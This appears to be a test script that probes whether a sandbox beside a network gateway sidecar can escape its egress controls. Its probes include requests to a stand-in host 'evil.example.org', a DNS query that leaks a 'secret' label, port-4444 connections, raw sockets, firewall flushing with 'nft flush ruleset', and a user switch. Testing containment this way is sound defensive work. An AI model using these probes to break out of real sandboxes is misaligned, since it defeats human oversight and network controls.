"""What a sandbox beside a sidecar can do: tries it and prints what came of it as JSON.

usage: inside.py all GOOD SINK SINK6
       inside.py again GOOD DNS PORTS     PORTS: {"udp": from which the gateway asked, "tcp": ... fetched}
"""
import json
import os
import pathlib
import socket
import subprocess
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "flow"))
from fake_dns import encode_name  # noqa: E402


def tried(what, *args):
    try:
        return what(*args)
    except OSError as why:
        return f"error {why.errno or why}"


def get(address, port, host, path, source=0):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as s:
        s.settimeout(10)
        if source:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)  # the gateway's may still wait for stray packets
            s.bind(("0.0.0.0", source))
        s.connect((address, port))
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        answer = b""
        while more := s.recv(65536):
            answer += more
    return answer.decode(errors="replace")


def name(address, host, source=0):
    """The response code and the number of answers."""
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as s:
        if source:
            s.bind(("0.0.0.0", source))
        s.settimeout(5)
        s.connect((address, 53))
        s.send(b"\0\7\1\0\0\1\0\0\0\0\0\0" + encode_name(host) + b"\0\1\0\1")
        answer = s.recv(2000)
    return [answer[3] & 15, int.from_bytes(answer[6:8], "big")]


def udp(address, port):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"out", (address, port))
    return "sent"


def bound(address, port):
    """By the interface, whatever the address."""
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        s.sendto(b"out", (address, port))
    return "sent"


def raw(kind, *args):
    socket.socket(kind, *args).close()
    return "made"


def flush():
    return subprocess.run(["nft", "flush", "ruleset"], capture_output=True, check=False).returncode


def everything(good, sink, sink6):
    print(json.dumps({
        "allowed": tried(get, good, 80, "mirror.example.com", "/debian/x"),
        "path": tried(get, good, 80, "mirror.example.com", "/other"),
        "lie": tried(get, sink, 80, "mirror.example.com", "/debian/x"),
        "host": tried(get, sink, 80, "evil.example.org", "/"),
        "host6": tried(get, sink6, 80, "evil.example.org", "/"),
        "port": tried(get, sink, 4444, "mirror.example.com", "/debian/x"),
        "name": tried(name, sink, "mirror.example.com"),
        "name6": tried(name, sink6, "mirror.example.com"),
        "stolen name": tried(name, sink, "secret.evil.example.org"),
        "udp": [tried(udp, a, p) for a in (sink, sink6) for p in (443, 4444)],
        "bound": [tried(bound, a, p) for a, p in (("127.0.0.1", 4444), ("::1", 4444), (sink, 53), (sink6, 53))],
        "raw": tried(raw, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        "packet": tried(raw, socket.AF_PACKET, socket.SOCK_RAW, 3),
        "mark": tried(lambda: socket.socket().setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1)),
        "flush": tried(flush),
        "gateway's user": tried(os.setuid, 65532),
    }))


def again(good, dns, ports):
    """To where the gateway was, from where it came."""
    ports = json.loads(ports)
    print(json.dumps({"udp": [tried(name, dns, "again.evil.example.org", p) for p in ports["udp"]],
                      "tcp": [tried(get, good, 80, "mirror.example.com", "/other", p) for p in ports["tcp"]]}))


if __name__ == "__main__":
    {"all": everything, "again": again}[sys.argv[1]](*sys.argv[2:])
